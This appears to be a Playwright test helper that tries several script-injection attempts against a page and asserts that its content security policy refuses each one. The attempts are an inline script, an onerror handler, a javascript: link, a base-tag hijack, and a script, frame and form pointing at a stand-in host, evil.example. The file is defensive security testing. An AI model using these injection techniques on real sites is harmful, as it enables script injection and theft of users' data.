import { expect, type Page } from '@playwright/test'

/** What somebody would try who found a way to put something into a page. Each says so in the title if it runs. */
export const attempts: Record<string, () => void> = {
  'an inline script': () => {
    const script = document.createElement('script')
    script.textContent = "document.title = 'ran'"
    document.body.append(script)
  },
  'a handler': () => {
    const box = document.createElement('div')
    box.innerHTML = '<img src="/nothing.png" onerror="document.title = \'ran\'">'
    document.body.append(box)
  },
  'a javascript: link': () => {
    const link = document.createElement('a')
    link.href = "javascript:document.title = 'ran'"
    document.body.append(link)
    link.click()
  },
  'a script of others': () => {
    const script = document.createElement('script')
    script.src = 'https://evil.example/x.js'
    document.body.append(script)
  },
  'another base': () => {
    const base = document.createElement('base')
    base.href = 'https://evil.example/'
    document.head.append(base)
    if (document.baseURI.startsWith('https://evil')) document.title = 'ran'
  },
  'a frame': () => {
    const frame = document.createElement('iframe')
    frame.src = 'https://evil.example/'
    document.body.append(frame)
  },
  'a form that is sent to others': () => {
    const form = document.createElement('form')
    form.action = 'https://evil.example/'
    form.method = 'post'
    document.body.append(form)
    HTMLFormElement.prototype.submit.call(form)
  },
}

/**
 * Tries all of it on the page as it stands: each is refused, nothing runs, and the page stays where it is.
 * @param refused what the page's policy refuses, as `policyViolations` hears it
 */
export async function tryEverything(page: Page, refused: string[]): Promise<void> {
  const here = page.url()
  for (const [name, attempt] of Object.entries(attempts)) {
    refused.length = 0
    await page.evaluate(attempt)
    await expect.poll(() => refused.length, { message: name }).toBeGreaterThan(0)
    expect(await page.title(), name).not.toBe('ran')
    expect(page.url(), name).toBe(here)
  }
}
